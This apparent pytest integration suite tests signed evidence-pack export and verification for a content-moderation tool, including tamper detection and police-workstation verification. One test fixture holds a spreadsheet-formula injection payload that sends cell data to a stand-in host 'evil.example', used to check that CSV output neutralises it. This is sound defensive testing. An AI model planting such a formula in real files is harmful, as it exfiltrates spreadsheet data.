"""Evidence packs: export → verify round trip, contents, and every kind of tampering."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from harmwatch.blobstore import get_blob_store
from harmwatch.cli import main
from harmwatch.search import es_client
from harmwatch.settings import get_settings
from review_ui import audit
from review_ui.evidence import cases, vics
from review_ui.evidence.keys import load_signing_key, public_key_pem
from review_ui.evidence.pack import export_case
from review_ui.evidence.verify import load_public_key, verify_pack
from tests.evidence_support import account, make_item, rewrite_pack, synthetic_png

pytestmark = pytest.mark.integration


@pytest.fixture(scope="module")
def env(services, tmp_path_factory):
    settings = services.model_copy(update={"var_dir": tmp_path_factory.mktemp("evidence-var")})
    client = es_client(settings)
    cases.ensure_case_indices(client, settings)
    return client, settings, get_blob_store(settings)


@pytest.fixture(scope="module")
def exported(env, tmp_path_factory) -> dict[str, Any]:
    client, settings, store = env
    officer = account(client, settings, "liaison1", "liaison")
    first = make_item(client, settings, store, media=[synthetic_png(1), synthetic_png(2)])
    second = make_item(client, settings, store, status="escalated")
    case = cases.create_case(client, settings, officer, cases.CaseFields(
        "Nhóm chia sẻ ảnh", "HN-2026-0042", "Công an TP", "Đại uý Trần"))
    cases.add_items(client, settings, officer, case["case_id"],
                    [first["item_id"], second["item_id"]])
    path = tmp_path_factory.mktemp("packs") / "pack.zip"
    with path.open("wb") as target:
        result = export_case(client, settings, case["case_id"], target, officer, language="vi")
    key_file = path.with_name("service.pub.pem")
    key_file.write_bytes(public_key_pem(load_signing_key(settings)))
    return {"path": path, "result": result, "case": case, "items": [first, second],
            "key_file": key_file, "key": load_public_key(key_file.read_bytes())}


def _read(path: Path, name: str) -> bytes:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name)


def _names(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return archive.namelist()


def test_round_trip_verifies_with_only_the_pack_and_public_key(exported):
    report = verify_pack(exported["path"], exported["key"])
    assert report.ok, report.problems
    manifest = json.loads(_read(exported["path"], "manifest.json"))
    assert report.files_checked == len(manifest["files"])
    assert any(note.startswith("signature valid") for note in report.notes)


def test_manifest_lists_every_file_with_size_and_sha256(exported):
    manifest = json.loads(_read(exported["path"], "manifest.json"))
    listed = {f["path"] for f in manifest["files"]}
    unlisted = {"manifest.json", "manifest.sig", "manifest.tsq"}
    assert set(_names(exported["path"])) == listed | unlisted
    assert manifest["tool"]["name"] == "harmwatch" and manifest["kind"] == "full"
    assert manifest["case"]["reference"] == "HN-2026-0042"
    assert manifest["exported_by"] == {"username": "liaison1", "role": "liaison"}
    assert manifest["created_at"].endswith("Z") and manifest["export_started_at"].endswith("Z")
    for item in exported["items"]:
        assert f"items/{item['item_id']}/metadata.json" in listed


def test_item_metadata_carries_provenance_hashes_reviews_and_custody(exported):
    first = exported["items"][0]
    meta = json.loads(_read(exported["path"], f"items/{first['item_id']}/metadata.json"))
    assert meta["capture"]["server_ip"] == "192.0.2.10"
    assert meta["capture"]["response_headers"]["Server"] == "nginx"
    assert meta["capture"]["crawl_job_id"] == "job-42"
    match = meta["bank_matches"][0]
    assert (match["bank"], match["list_version"], match["algorithm"], match["distance"]) == \
        ("confirmed", "7", "pdq", 4)
    assert meta["classification"]["model_version"] == "text-model-3"
    assert meta["classification"]["scores"]["sexual_exploitation"] == pytest.approx(0.91)
    assert meta["review"]["decision"]["status"] == "confirmed"
    media = [f for f in meta["files"] if f["kind"] == "media"]
    assert [f["human_viewed"] for f in media] == [True, False]
    assert all(len(f["md5"]) == 32 and len(f["sha1"]) == 40 and f["pdq"] for f in media)
    snapshot = next(f for f in meta["files"] if f["kind"] == "snapshot")
    assert snapshot["path"].endswith("snapshot.html") and snapshot["in_pack"]
    actions = [record["action"] for record in meta["custody"]]
    assert "item_view" in actions
    assert all(record["target"] == first["item_id"] for record in meta["custody"])


def test_media_in_the_pack_are_the_original_bytes(exported):
    first = exported["items"][0]
    meta = json.loads(_read(exported["path"], f"items/{first['item_id']}/metadata.json"))
    media = [f for f in meta["files"] if f["kind"] == "media"]
    assert _read(exported["path"], media[1]["path"]) == synthetic_png(2)


def test_hashes_csv_lists_every_item_file(exported):
    rows = list(csv.DictReader(io.StringIO(_read(exported["path"], "hashes.csv").decode())))
    manifest = json.loads(_read(exported["path"], "manifest.json"))
    by_path = {f["path"]: f for f in manifest["files"]}
    item_rows = [r for r in rows if r["path"].startswith("items/")]
    assert len(item_rows) == len([p for p in by_path if p.startswith("items/")])
    for row in item_rows:
        assert row["sha256"] == by_path[row["path"]]["sha256"] and row["in_pack"] == "yes"
        assert len(row["md5"]) == 32 and len(row["sha1"]) == 40


def test_vics_file_validates_against_the_data_model_schema(exported):
    document = json.loads(_read(exported["path"], "vics.json"))
    jsonschema.Draft202012Validator(
        vics.schema(), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    ).validate(document)
    media = document["value"][0]["Media"]
    assert len(media) == 3 and [m["MediaID"] for m in media] == [1, 2, 3]
    assert media[0]["Category"] == 1 and media[0]["MD5"].isupper()
    assert document["value"][0]["CaseNumber"] == "HN-2026-0042"


def test_vics_schema_rejects_what_importers_need_missing(exported):
    document = json.loads(_read(exported["path"], "vics.json"))
    del document["value"][0]["Media"][0]["SHA1"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, vics.schema())


def test_summary_is_in_the_chosen_language_and_inert(exported):
    page = _read(exported["path"], "summary.html").decode()
    assert "Tóm tắt gói chứng cứ" in page and "HN-2026-0042" in page
    assert "<script" not in page and "default-src 'none'" in page


def test_export_is_audited_and_marks_the_case_exported(env, exported):
    client, settings, _ = env
    case = cases.get_case(client, settings, exported["case"]["case_id"])
    assert case["status"] == "exported"
    assert case["exports"][-1]["manifest_sha256"] == exported["result"].manifest_sha256
    client.indices.refresh(index=settings.index_name("audit"))
    records = audit.search_records(client, settings, action="evidence_export",
                                   target=case["case_id"])
    assert records and records[0]["actor"] == "liaison1"
    assert records[0]["details"]["pack_id"] == exported["result"].pack_id


def _tamper_cases(exported: dict[str, Any]) -> dict[str, dict[str, Any]]:
    first = exported["items"][0]
    meta_path = f"items/{first['item_id']}/metadata.json"
    meta = json.loads(_read(exported["path"], meta_path))
    media_path = next(f["path"] for f in meta["files"] if f["kind"] == "media")
    original = _read(exported["path"], media_path)
    manifest = json.loads(_read(exported["path"], "manifest.json"))
    manifest["case"]["title"] = "something else"
    return {
        "altered media": {"replace": {media_path: original[:-1] + bytes([original[-1] ^ 1])},
                          "expect": media_path},
        "altered metadata": {"replace": {meta_path: _read(exported["path"], meta_path)
                                         .replace(b"192.0.2.10", b"192.0.2.11")},
                             "expect": meta_path},
        "removed media": {"remove": {media_path}, "expect": media_path},
        "removed hashes": {"remove": {"hashes.csv"}, "expect": "hashes.csv"},
        "duplicate entry": {"add": {media_path: b"another copy"}, "expect": media_path},
        "edited manifest": {"replace": {"manifest.json": json.dumps(manifest).encode()},
                            "expect": "manifest.sig"},
        "removed signature": {"remove": {"manifest.sig"}, "expect": "manifest.sig"},
        "removed manifest": {"remove": {"manifest.json"}, "expect": "manifest.json"},
    }


@pytest.mark.parametrize("kind", ["altered media", "altered metadata", "removed media",
                                  "removed hashes", "duplicate entry",
                                  "edited manifest", "removed signature", "removed manifest"])
def test_tampering_is_detected_and_named(exported, tmp_path, kind):
    change = _tamper_cases(exported)[kind]
    expect = change.pop("expect")
    tampered = rewrite_pack(exported["path"], tmp_path / "tampered.zip", **change)
    report = verify_pack(tampered, exported["key"])
    assert not report.ok
    assert any(problem.startswith(expect) for problem in report.problems), report.problems


def _rezip(pack: Path, work: Path, extra: dict[str, bytes] | None = None) -> Path:
    """Unpack and zip again with Info-ZIP's defaults (``zip -r`` stores folder entries)."""
    unpacked = work / "unpacked"
    with zipfile.ZipFile(pack) as archive:
        archive.extractall(unpacked)
    for name, data in (extra or {}).items():
        (unpacked / name).parent.mkdir(parents=True, exist_ok=True)
        (unpacked / name).write_bytes(data)
    target = work / "rezipped.zip"
    subprocess.run(["zip", "-q", "-r", str(target), "."], cwd=unpacked, check=True)
    return target


needs_zip = pytest.mark.skipif(shutil.which("zip") is None, reason="apt-get install zip")


@needs_zip
def test_a_pack_zipped_again_with_folder_entries_still_verifies(exported, tmp_path):
    rezipped = _rezip(exported["path"], tmp_path)
    assert any(name.endswith("/") for name in _names(rezipped)), "zip stored no folder entries"
    report = verify_pack(rezipped, exported["key"])
    assert report.problems == []
    assert report.ok and report.additions == []


@needs_zip
def test_handling_noise_is_an_addition_apart_from_tampering(exported, tmp_path):
    """A Mac's __MACOSX/ and .DS_Store files are added entries, not damaged evidence."""
    noise = {"__MACOSX/items/._metadata.json": b"\x00\x05\x16\x07", ".DS_Store": b"Bud1"}
    report = verify_pack(_rezip(exported["path"], tmp_path, noise), exported["key"])
    assert report.problems == []
    assert report.intact and not report.ok
    assert report.additions == sorted(noise)
    added = rewrite_pack(exported["path"], tmp_path / "added.zip",
                         add={"items/extra.jpg": b"\xff\xd8 synthetic"})
    assert verify_pack(added, exported["key"]).additions == ["items/extra.jpg"]


def test_a_folder_entry_with_content_is_an_addition(exported, tmp_path):
    """Only empty folder entries are ignored: one that carries bytes is reported."""
    added = rewrite_pack(exported["path"], tmp_path / "hidden.zip", add={"items/": b"hidden"})
    assert verify_pack(added, exported["key"]).additions == ["items/"]


def test_a_consistent_forgery_still_fails_the_signature(exported, tmp_path):
    """Change a file AND its manifest entry: only the signature can catch that."""
    manifest = json.loads(_read(exported["path"], "manifest.json"))
    entry = next(f for f in manifest["files"] if f["path"] == "hashes.csv")
    forged = b"path,sha256\r\n"
    entry.update(size=len(forged), sha256=hashlib.sha256(forged).hexdigest())
    tampered = rewrite_pack(exported["path"], tmp_path / "forged.zip", replace={
        "hashes.csv": forged, "manifest.json": json.dumps(manifest).encode()})
    report = verify_pack(tampered, exported["key"])
    # The signature (and the time-stamp request, bound to the old manifest hash) catch it.
    assert sorted(p.split(":")[0] for p in report.problems) == ["manifest.sig", "manifest.tsq"]


def test_wrong_public_key_is_detected(exported):
    other = Ed25519PrivateKey.generate().public_key()
    report = verify_pack(exported["path"], other)
    assert not report.ok
    assert any("public_key_sha256" in p for p in report.problems)
    assert any(p.startswith("manifest.sig") for p in report.problems)


def test_without_a_key_the_pack_key_is_used_and_flagged_untrusted(exported):
    report = verify_pack(exported["path"])
    assert report.ok
    assert any("INSIDE the pack" in note for note in report.notes)


def test_verify_command_exit_codes_and_report(exported, tmp_path, capsys, monkeypatch):
    """Runs as on a police workstation: no settings file, no Elasticsearch reachable."""
    monkeypatch.setenv("HARMWATCH_CONFIG", str(tmp_path / "no-such-config.yaml"))
    monkeypatch.setenv("HARMWATCH_ES_URL", "http://127.0.0.1:9")
    get_settings.cache_clear()
    assert main(["evidence", "verify", str(exported["path"]), "--public-key",
                 str(exported["key_file"])]) == 0
    assert ": OK;" in capsys.readouterr().out
    tampered = rewrite_pack(exported["path"], tmp_path / "t.zip", remove={"vics.json"})
    assert main(["evidence", "verify", str(tampered), "--public-key",
                 str(exported["key_file"])]) == 1
    assert "FAIL vics.json: listed in the manifest but missing" in capsys.readouterr().out
    added = rewrite_pack(exported["path"], tmp_path / "a.zip", add={"__MACOSX/._x": b"x"})
    assert main(["evidence", "verify", str(added), "--public-key",
                 str(exported["key_file"])]) == 3
    out = capsys.readouterr().out
    assert "ADDED __MACOSX/._x" in out and "evidence intact" in out
    get_settings.cache_clear()


def test_metadata_only_pack_has_no_media_and_still_verifies(env, exported, tmp_path):
    client, settings, _ = env
    officer = account(client, settings, "liaison1", "liaison")
    path = tmp_path / "meta.zip"
    with path.open("wb") as target:
        result = export_case(client, settings, exported["case"]["case_id"], target, officer,
                             metadata_only=True, language="en")
    assert result.kind == "metadata-only"
    names = _names(path)
    assert not [n for n in names if "/media/" in n or "/snapshot" in n]
    rows = list(csv.DictReader(io.StringIO(_read(path, "hashes.csv").decode())))
    media_rows = [r for r in rows if r["kind"] == "media"]
    assert len(media_rows) == 3 and {r["in_pack"] for r in media_rows} == {"no"}
    assert all(len(r["sha256"]) == 64 for r in media_rows)
    assert verify_pack(path, exported["key"]).ok
    assert "Evidence pack summary" in _read(path, "summary.html").decode()


def test_closed_cases_cannot_be_exported(env, tmp_path):
    client, settings, _ = env
    officer = account(client, settings, "liaison1", "liaison")
    case = cases.create_case(client, settings, officer, cases.CaseFields("closed one"))
    cases.set_status(client, settings, officer, case["case_id"], "closed")
    with (tmp_path / "x.zip").open("wb") as target, pytest.raises(cases.CaseError):
        export_case(client, settings, case["case_id"], target, officer)


@pytest.mark.skipif(shutil.which("openssl") is None or shutil.which("unzip") is None,
                    reason="openssl or unzip not installed")
def test_standard_tools_accept_the_zip_and_the_signature(exported, tmp_path):
    """A police lab without harmwatch: `unzip -t` and `openssl pkeyutl -verify`."""
    subprocess.run(["unzip", "-tq", str(exported["path"])], check=True, capture_output=True)
    for name in ("manifest.json", "manifest.sig"):
        (tmp_path / name).write_bytes(_read(exported["path"], name))
    subprocess.run(["openssl", "pkeyutl", "-verify", "-pubin", "-inkey",
                    str(exported["key_file"]), "-rawin", "-in", str(tmp_path / "manifest.json"),
                    "-sigfile", str(tmp_path / "manifest.sig")], check=True, capture_output=True)


def test_hashes_csv_neutralises_formulas_in_crawled_urls():
    """Issue 18.4: a crawled media URL is attacker-chosen; in the pack's hashes.csv, which
    officers open in spreadsheets, it must stay text."""
    from review_ui.evidence.pack import HASH_COLUMNS, _hashes_csv

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    row = {name: "" for name in HASH_COLUMNS} | {"path": "items/x/media/00.png",
                                                 "source_url": formula, "size": 12}
    parsed = list(csv.DictReader(io.StringIO(_hashes_csv([row]).decode("utf-8"))))
    assert parsed[0]["source_url"] == "'" + formula and parsed[0]["size"] == "12"
